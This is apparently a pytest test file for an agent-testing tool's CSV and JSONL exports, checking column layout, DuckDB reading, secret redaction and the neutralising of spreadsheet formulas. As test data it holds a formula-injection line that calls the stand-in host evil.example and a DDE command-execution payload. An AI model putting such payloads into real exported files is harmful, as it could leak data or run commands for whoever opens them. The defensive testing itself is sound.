"""``-o report.csv`` and ``-o report.jsonl``: the exports a spreadsheet or a data tool reads."""

from __future__ import annotations

import csv
import json
import sys
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest

from assertly import _records as records
from assertly._records import RunRecord, StepRecord, TrialRecord
from assertly.reports import write_report
from assertly.reports._csv import COLUMNS, neutralised
from assertly.reports._json import render_json
from assertly.runner import RunOptions, load_run, run

SampleRun = Callable[[str, str, str], tuple[RunRecord, Path]]  # the conftest fixture

# Agent output that a spreadsheet would run, with quotes, a comma, newlines and non-ASCII.
INJECTED = '=HYPERLINK("http://evil.example/?q="&A1,"hello") ünï 日本\r\n"quoted", line 2'


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_has_a_row_per_test_and_trial(sample_run: SampleRun, tmp_path: Path) -> None:
    record, store = sample_run("csv", INJECTED + " hello", "nope")
    write_report(record, tmp_path / "r.csv")
    raw = (tmp_path / "r.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 as a spreadsheet recognises it
    assert b"\r\n" in raw  # RFC 4180 record ends
    rows = _csv_rows(tmp_path / "r.csv")
    assert tuple(rows[0]) == COLUMNS
    # 7 tests, the flaky one with 3 trials; the skipped one keeps its (skipped) trial.
    assert [(row["id"], row["trial"]) for row in rows] == [
        ("ok", "1"), ("too-many", "1"), ("crash", "1"),
        ("flaky", "1"), ("flaky", "2"), ("flaky", "3"),
        ("needs-prod", "1"), ("injected", "1"), ("plain", "1"),
    ]  # fmt: skip
    by_id = {row["id"]: row for row in rows}
    assert by_id["too-many"]["outcome"] == "failed"
    assert by_id["too-many"]["first_failure"].startswith("results_max:")
    assert by_id["crash"]["outcome"] == "error"
    assert "index unavailable" in by_id["crash"]["first_failure"]
    assert [row["outcome"] for row in rows if row["id"] == "flaky"] == [
        "passed", "failed", "passed",
    ]  # fmt: skip
    assert {row["test_outcome"] for row in rows if row["id"] == "flaky"} == {"failed"}
    assert by_id["needs-prod"]["outcome"] == "skipped"
    assert by_id["ok"]["target"] == ""  # a run of one target
    assert json.loads(by_id["ok"]["output"]) == {
        "status": "success",
        "results": [{"file": "journal/0.md"}],
    }
    assert float(by_id["ok"]["latency_ms"]) > 0
    assert by_id["ok"]["score"] == "1.0"
    # The formula is neutralised; the rest of the output (newlines, non-ASCII) round-trips.
    assert by_id["injected"]["output"] == "'" + INJECTED + " hello"
    # The same file from the stored run: identical bytes.
    write_report(load_run(str(store), record.run_id), tmp_path / "again.csv")
    assert (tmp_path / "again.csv").read_bytes() == raw


def test_csv_reads_in_duckdb_with_numbers_as_numbers(sample_run: SampleRun, tmp_path: Path) -> None:
    record, _ = sample_run("csv_duckdb", INJECTED + " hello", "nope")
    write_report(record, tmp_path / "r.csv")
    connection = duckdb.connect()
    relation = connection.read_csv(str(tmp_path / "r.csv"), header=True)
    assert tuple(relation.columns) == COLUMNS
    types = dict(zip(relation.columns, map(str, relation.types), strict=True))
    assert types["trial"] in ("BIGINT", "INTEGER")
    assert types["score"] == "DOUBLE" and types["latency_ms"] == "DOUBLE"
    rows = relation.fetchall()
    assert len(rows) == 9
    outputs = {row[2]: row[7] for row in rows}
    assert outputs["injected"] == "'" + INJECTED + " hello"
    failed = connection.sql(
        f"select id, trial from read_csv('{tmp_path / 'r.csv'}', header=true) "
        "where outcome = 'failed' order by id, trial"
    ).fetchall()
    assert failed == [("flaky", 2), ("too-many", 1)]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # a plain number: read as that number, never run
        ("+1.5e3", "+1.5e3"),
        ("hello = world", "hello = world"),
        ("", ""),
    ],
)
def test_formula_cells_are_neutralised(text: str, cell: str) -> None:
    assert neutralised(text) == cell


def _one_test(output: object, secret_error: str | None = None) -> RunRecord:
    step = StepRecord("main", "failed", output=output, latency_ms=12.5, cost_usd=0.002)
    trial = TrialRecord("f::s::=x", 1, "failed", 13.0, [step], error=secret_error)
    test = records.TestRecord("f::s::=x", "=x", "=x", "@suite", "-f.yaml", "failed", 0.0, [trial])
    return RunRecord("run-1", "2026-01-01T00:00:00Z", 13.0, [test])


def test_every_text_column_is_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    write_report(_one_test("+SUM(1)\x1b[2J\u202e", "-boom"), tmp_path / "r.csv")
    (row,) = _csv_rows(tmp_path / "r.csv")
    assert row["file"] == "'-f.yaml" and row["suite"] == "'@suite" and row["id"] == "'=x"
    # A terminal's controls in the output are shown, not obeyed, when the file is printed.
    assert row["output"] == "'+SUM(1)\\x1b[2J\\u202e" and row["first_failure"] == "'-boom"
    assert row["latency_ms"] == "12.5" and row["cost_usd"] == "0.002"


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_a_secret_never_appears(tmp_path: Path, suffix: str) -> None:
    secret = 'sk-"live",1234'  # a quote and a comma: CSV and JSON spell it otherwise
    record = _one_test({"token": secret, "note": f"it is {secret}"}, f"auth {secret} refused")
    write_report(record, tmp_path / f"r{suffix}", redact={secret})
    text = (tmp_path / f"r{suffix}").read_text(encoding="utf-8-sig")
    assert "live" not in text
    assert "[REDACTED]" in text
    if suffix == ".csv":
        (row,) = _csv_rows(tmp_path / "r.csv")
        assert json.loads(row["output"]) == {"token": "[REDACTED]", "note": "it is [REDACTED]"}
        assert row["first_failure"] == "auth [REDACTED] refused"


def test_jsonl_lines_are_the_json_reports_tests(sample_run: SampleRun, tmp_path: Path) -> None:
    record, store = sample_run("jsonl", INJECTED + " hello sk-9", "nope")
    write_report(record, tmp_path / "r.jsonl", redact={"sk-9"})
    lines = (tmp_path / "r.jsonl").read_bytes().split(b"\n")
    assert lines[-1] == b""  # every line ends in a newline, none is blank
    entries = [json.loads(line) for line in lines[:-1]]
    report = json.loads(render_json(record, redact={"sk-9"}))
    assert entries == report["tests"]
    assert "sk-9" not in (tmp_path / "r.jsonl").read_text(encoding="utf-8")
    injected = next(entry for entry in entries if entry["id"] == "injected")
    assert injected["trials"][0]["output"] == INJECTED + " hello [REDACTED]"
    # DuckDB reads it as JSON Lines, one row per test.
    counted = duckdb.connect().sql(
        f"select count(*), count(distinct key) from read_json('{tmp_path / 'r.jsonl'}', "
        "format='newline_delimited')"
    )
    assert counted.fetchall() == [(7, 7)]
    # From the store: the same lines.
    write_report(load_run(str(store), record.run_id), tmp_path / "again.jsonl", redact={"sk-9"})
    assert (tmp_path / "again.jsonl").read_bytes() == (tmp_path / "r.jsonl").read_bytes()


AGENT = """
import json, sys
q = json.load(sys.stdin)
print("nope" if sys.argv[1] == "v2" else q)
"""


def test_matrix_runs_fill_the_target_column(tmp_path: Path) -> None:
    (tmp_path / "agent.py").write_text(AGENT)
    (tmp_path / "t.tests.json").write_text(
        json.dumps(
            {
                "agent": "echo",
                "test_suites": {
                    "s": {"tests": [{"id": "a", "input": "hi", "expect": {"contains": "hi"}}]}
                },
            }
        )
    )
    spec = f"cmd:{sys.executable} {tmp_path / 'agent.py'}"
    record = run(
        RunOptions(
            paths=[str(tmp_path / "t.tests.json")],
            targets={"base": f"{spec} v1", "cand": f"{spec} v2"},
            store_path=str(tmp_path / "s.sqlite"),
        )
    )
    write_report(record, tmp_path / "r.csv")
    rows = _csv_rows(tmp_path / "r.csv")
    assert [(row["id"], row["target"], row["outcome"]) for row in rows] == [
        ("a", "base", "passed"),
        ("a", "cand", "failed"),
    ]
    write_report(record, tmp_path / "r.jsonl")
    targets = [json.loads(line)["target"] for line in (tmp_path / "r.jsonl").open()]
    assert targets == ["base", "cand"]


def test_an_empty_run_writes_the_header_and_no_line(tmp_path: Path) -> None:
    empty = RunRecord("r", "t", 0.0)
    write_report(empty, tmp_path / "r.csv")
    write_report(empty, tmp_path / "r.jsonl")
    assert _csv_rows(tmp_path / "r.csv") == []
    header = ",".join(COLUMNS).encode()
    assert (tmp_path / "r.csv").read_bytes() == b"\xef\xbb\xbf" + header + b"\r\n"
    assert (tmp_path / "r.jsonl").read_bytes() == b""
